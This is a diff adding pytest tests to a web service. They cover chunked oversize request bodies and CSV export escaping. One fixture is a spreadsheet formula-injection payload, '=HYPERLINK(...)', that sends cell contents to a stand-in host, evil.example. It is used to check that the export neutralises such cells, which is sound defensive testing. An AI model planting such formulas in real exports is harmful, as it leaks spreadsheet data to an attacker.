@@ -1,5 +1,7 @@
 """Hostile input to the service: bodies, exports and timestamps (issue 17)."""
 
+import csv
+import io
 import json
 from collections.abc import Iterator
 from datetime import datetime
@@ -10,6 +12,7 @@ import pytest
 from fastapi.testclient import TestClient
 
 from api.app import create_app
+from api.csvcells import cell
 from api.settings import Settings
 
 TUTORIAL: dict[str, Any] = json.loads(
@@ -100,3 +103,39 @@ def test_solve_requests_with_numbers_out_of_range_are_422(client: TestClient, fi
     answer = _raw_post(client, "/jobs", body)
     assert answer.status_code == 422, answer.text
     assert [p["path"] for p in answer.json()["errors"]] == [field]
+
+
+def test_oversize_body_sent_in_chunks_is_413(client: TestClient) -> None:
+    """A body over max_body_bytes sent chunked, without Content-Length, gets 413 like a
+    declared one (before, the app's body reader turned the cut-off into a 400)."""
+
+    def chunks() -> Iterator[bytes]:
+        yield b'{"name": "'
+        for _ in range(40):
+            yield b"x" * 10_000
+        yield b'"}'
+
+    answer = client.post("/scenarios", content=chunks(),
+                         headers={"content-type": "application/json"})
+    assert answer.status_code == 413, answer.text
+    assert answer.headers["content-type"] == "application/problem+json"
+    assert client.get("/scenarios").json()["total"] == 0
+
+
+def test_csv_export_escapes_cells_a_spreadsheet_would_run(client: TestClient) -> None:
+    """A reason of '=HYPERLINK(...)' (or starting with +, - or @) is exported with a
+    leading apostrophe, so a spreadsheet shows it as text instead of running it."""
+    reasons = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+               "plain"]
+    for reason in reasons:
+        client.post("/scenarios", json=TUTORIAL, params={"reason": reason})
+    rows = list(csv.DictReader(io.StringIO(client.get("/audit/export.csv").text)))
+    assert [r["reason"] for r in rows] == ["'" + r for r in reasons[:-1]] + ["plain"]
+    assert all(not r["actor"].startswith(("=", "+", "-", "@")) for r in rows)
+
+
+def test_csv_cells_keep_numbers_and_plain_text() -> None:
+    """Only text that would start a formula is changed: numbers (negative ones too), None
+    and ordinary text are written as they are (batch's assignments.csv uses the same)."""
+    assert [cell(v) for v in (-3, 2.5, None, "Wang Lei", "=1", "\tx")] == [
+        -3, 2.5, None, "Wang Lei", "'=1", "'\tx"]
